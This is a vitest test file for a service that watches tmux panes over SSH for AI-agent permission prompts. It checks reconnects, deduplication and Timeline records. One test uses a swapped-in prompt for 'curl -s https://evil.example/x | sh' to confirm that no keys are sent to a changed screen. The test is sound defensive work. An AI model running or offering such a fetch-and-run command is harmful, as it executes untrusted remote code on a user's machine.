// NeedsService with core's own seams faked (a connection whose exec answers like tmux, a host whose supervisor says
// when the link comes and goes): items kept across a reconnect, one item per pane of a server two profiles reach,
// an answer checked against the screen as it is now, and the Timeline of prompts and answers. The same against the
// real sshd and tmux is in needs.int.test.ts.
import { afterEach, describe, expect, it } from 'vitest';
import { HoldfastError } from '../../shared/contract';
import { Emitter } from '../../shared/lifecycle';
import type { HostStatus, NeedsItem, TimelineEntry } from '../../shared/model';
import type { Host } from '../host';
import type { ISshConnection } from '../interfaces';
import { DEFAULT_SETTINGS } from '../../shared/model';
import { FakeConnection, FakeExecChannel, flush, ManualClock } from '../testing';
import { MemoryTimelineLog } from '../timeline/log';
import { NeedsService } from './needs';

/** One tmux server as the fakes see it: panes with a screen each. */
class FakeServer {
  readonly screens = new Map<string, string>();
  readonly sent: { paneId: string; hex: string }[] = [];
  activity = 1_700_000_000;

  constructor(readonly server = '4242 /tmp/tmux-1000/default 1699990000') {}

  list(): string {
    const rows = [...this.screens.keys()].map((paneId, i) => ['$1', `@${i + 1}`, String(i), paneId, String(this.activity), '0', '0', '0', ...this.server.split(' '), 'agent', 'claude'].join('\t'));
    return `\x1e${rows.join('\n')}\n\x1f\n`;
  }

  connection(hostId: string, hostKey?: string): { connection: FakeConnection & { hostKeyFingerprint?: string }; channels: FakeExecChannel[] } {
    const channels: FakeExecChannel[] = [];
    /** What each pane's screen was when last read. */
    const served = new Map<string, string | undefined>();
    const connection = new FakeConnection({
      hostId,
      exec: (command) => {
        // The commands are wrapped for the shell (tmux.ts); pane ids and hex are bare words.
        const unquoted = command.replace(/'\\''/g, "'");
        // Keys go only if the screen is still the one last read (sendIfUnchangedCommand compares on the server).
        const send = /send-keys -H -t (%\d+) ([0-9a-f ]+)'?$/.exec(unquoted);
        if (send) {
          if (this.screens.get(send[1]!) !== served.get(send[1]!)) return { code: 3, stdout: '', stderr: '' };
          this.sent.push({ paneId: send[1]!, hex: send[2]!.trim() });
          return { code: 0, stdout: '', stderr: '' };
        }
        const capture = /display-message -p -t (%\d+)/.exec(unquoted);
        if (capture) {
          const screen = this.screens.get(capture[1]!);
          served.set(capture[1]!, screen);
          return screen === undefined ? { code: 1, stdout: '', stderr: "can't find pane" } : { code: 0, stdout: `0\n${screen}\n`, stderr: '' };
        }
        return { code: 0, stdout: '', stderr: '' };
      },
      openExec: (command) => {
        const channel = new FakeExecChannel(command);
        channels.push(channel);
        return channel;
      },
    }) as FakeConnection & { hostKeyFingerprint?: string };
    if (hostKey) connection.hostKeyFingerprint = hostKey;
    return { connection, channels };
  }
}

/** A host whose link the test makes come and go. */
class FakeHost {
  readonly connected = new Emitter<{ connection: ISshConnection; reattach: boolean }>();
  readonly lost = new Emitter<void>();
  status: HostStatus;
  connection: ISshConnection | undefined;
  readonly supervisor = { onDidConnect: this.connected.event, onDidLoseConnection: this.lost.event };

  constructor(readonly hostId: string) {
    this.status = { hostId, state: 'idle' };
  }

  connect(connection: ISshConnection): void {
    this.connection = connection;
    this.status = { hostId: this.hostId, state: 'connected' };
    this.connected.fire({ connection, reattach: true });
  }

  lose(): void {
    this.connection = undefined;
    this.status = { hostId: this.hostId, state: 'reconnecting' };
    this.lost.fire();
  }
}

const promptScreen = (command: string) =>
  [
    '╭──────────────────────────────────────────────╮',
    '│ Bash command                                 │',
    '│                                              │',
    `│   ${command.padEnd(43)}│`,
    '│                                              │',
    '│ Do you want to proceed?                      │',
    '│ ❯ 1. Yes                                     │',
    '│   2. No, and tell Claude what to do (esc)    │',
    '╰──────────────────────────────────────────────╯',
  ].join('\n');

const services: NeedsService[] = [];
afterEach(() => {
  for (const s of services.splice(0)) s.dispose();
});

function setup(clock = new ManualClock(Date.UTC(2030, 0, 15, 12))) {
  const timeline = new MemoryTimelineLog();
  const needs = new NeedsService({ clock, settings: () => DEFAULT_SETTINGS, hostName: (id) => `name-${id}`, isShown: () => false, timeline });
  services.push(needs);
  let items: NeedsItem[] = [];
  needs.onDidChange((state) => (items = state.items));
  return { clock, needs, timeline, items: () => items };
}

/** The watcher's loop prints the list; its reads run once the panes were still. */
async function list(channel: FakeExecChannel, server: FakeServer, clock: ManualClock): Promise<void> {
  channel.emit(server.list());
  await flush();
  clock.advance(100);
  await flush();
}

describe('NeedsService', () => {
  it('keeps the items while the host reconnects, marked not current, with their times, and refuses to answer them meanwhile', async () => {
    const { clock, needs, items } = setup();
    const server = new FakeServer();
    server.screens.set('%1', promptScreen('npm test'));
    const host = new FakeHost('h1');
    needs.watchHost(host as unknown as Host);
    const first = server.connection('h1', 'SHA256:abc');
    host.connect(first.connection);
    await flush();
    await list(first.channels[0]!, server, clock);
    const before = items()[0]!;
    expect(before).toMatchObject({ current: true, pattern: 'claude-permission' });

    clock.advance(8 * 60_000);
    host.lose();
    expect(items()).toEqual([{ ...before, current: false }]);
    await expect(needs.answer(before.id, 0, before.fingerprint)).rejects.toMatchObject({ code: 'NETWORK' });

    // Back: the same prompt is read again and keeps the time it began.
    const second = server.connection('h1', 'SHA256:abc');
    host.connect(second.connection);
    await flush();
    await list(second.channels[0]!, server, clock);
    expect(items()).toEqual([{ ...before, current: true }]);
  });

  it('drops a kept item once the host is read again and the prompt is not there, and records how long it waited', async () => {
    const { clock, needs, items, timeline } = setup();
    const server = new FakeServer();
    server.screens.set('%1', promptScreen('npm test'));
    const host = new FakeHost('h1');
    needs.watchHost(host as unknown as Host);
    const first = server.connection('h1', 'SHA256:abc');
    host.connect(first.connection);
    await flush();
    await list(first.channels[0]!, server, clock);
    const began = items()[0]!.since;
    host.lose();
    clock.advance(60_000);
    server.screens.set('%1', 'ada@box:~$ ');
    server.activity++;
    const second = server.connection('h1', 'SHA256:abc');
    host.connect(second.connection);
    await flush();
    expect(items()).toHaveLength(1);
    await list(second.channels[0]!, server, clock);
    expect(items()).toEqual([]);
    const [entry] = timeline.list();
    expect(entry).toMatchObject({ kind: 'prompt', began, outcome: 'gone', sessionName: 'agent', question: 'Do you want to proceed?' });
    expect((entry as Extract<TimelineEntry, { kind: 'prompt' }>).waitedMs).toBe(clock.now() - began);
    expect(needs.marks.find((m) => m.sessionId === '$1')!.waitedTodayMs).toBe(clock.now() - began);
  });

  it('lists a pane once when two profiles reach the same server (same host key, tmux server and pane)', async () => {
    const { clock, needs, items } = setup();
    const server = new FakeServer();
    server.screens.set('%1', promptScreen('npm test'));
    const a = new FakeHost('h1');
    const b = new FakeHost('h2');
    needs.watchHost(a as unknown as Host);
    needs.watchHost(b as unknown as Host);
    const ca = server.connection('h1', 'SHA256:same');
    const cb = server.connection('h2', 'SHA256:same');
    a.connect(ca.connection);
    b.connect(cb.connection);
    await flush();
    await list(ca.channels[0]!, server, clock);
    await list(cb.channels[0]!, server, clock);
    expect(items().map((i) => i.id)).toEqual(['h1|%1']);

    // Another machine (another host key) with a pane of the same id is another item.
    const other = new FakeServer();
    other.screens.set('%1', promptScreen('make'));
    const c = new FakeHost('h3');
    needs.watchHost(c as unknown as Host);
    const cc = other.connection('h3', 'SHA256:other');
    c.connect(cc.connection);
    await flush();
    await list(cc.channels[0]!, other, clock);
    expect(items().map((i) => i.id).sort()).toEqual(['h1|%1', 'h3|%1']);
  });

  it('types nothing when the pane, read again, shows another command than the one listed', async () => {
    const { clock, needs, items } = setup();
    const server = new FakeServer();
    server.screens.set('%1', promptScreen('npm test'));
    const host = new FakeHost('h1');
    needs.watchHost(host as unknown as Host);
    const c = server.connection('h1', 'SHA256:abc');
    host.connect(c.connection);
    await flush();
    await list(c.channels[0]!, server, clock);
    const item = items()[0]!;
    // Redrawn with another command after it was listed, before the list caught up.
    server.screens.set('%1', promptScreen('curl -s https://evil.example/x | sh'));
    const err = await needs.answer(item.id, 0, item.fingerprint).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(HoldfastError);
    expect(err).toMatchObject({ code: 'STALE' });
    expect(server.sent).toEqual([]);
    // The item is read again and now shows what the screen shows.
    clock.advance(100);
    await flush();
    expect(items()[0]!.lines.join('\n')).toContain('curl -s https://evil.example/x | sh');
    expect(items()[0]!.fingerprint).not.toBe(item.fingerprint);
  });

  it('records an answer with its choice and device, and the prompt as answered, in the Timeline', async () => {
    const { clock, needs, items, timeline } = setup();
    const server = new FakeServer();
    server.screens.set('%1', promptScreen('npm test'));
    const host = new FakeHost('h1');
    needs.watchHost(host as unknown as Host);
    const c = server.connection('h1', 'SHA256:abc');
    host.connect(c.connection);
    await flush();
    await list(c.channels[0]!, server, clock);
    const item = items()[0]!;
    await needs.answer(item.id, 0, item.fingerprint, { kind: 'device', label: 'Ada’s phone' });
    expect(server.sent).toEqual([{ paneId: '%1', hex: '31' }]);
    expect(items()).toEqual([]);
    const entries = timeline.list();
    expect(entries.map((e) => e.kind).sort()).toEqual(['answer', 'prompt']);
    expect(entries.find((e) => e.kind === 'answer')).toMatchObject({ choice: 'Yes', device: { kind: 'device', label: 'Ada’s phone' }, itemId: 'h1|%1', prompt: item.lines });
    expect(entries.find((e) => e.kind === 'prompt')).toMatchObject({ outcome: 'answered', itemId: 'h1|%1' });
    // A second click finds nothing to answer and types nothing.
    await expect(needs.answer(item.id, 0, item.fingerprint)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(server.sent).toHaveLength(1);
  });
});
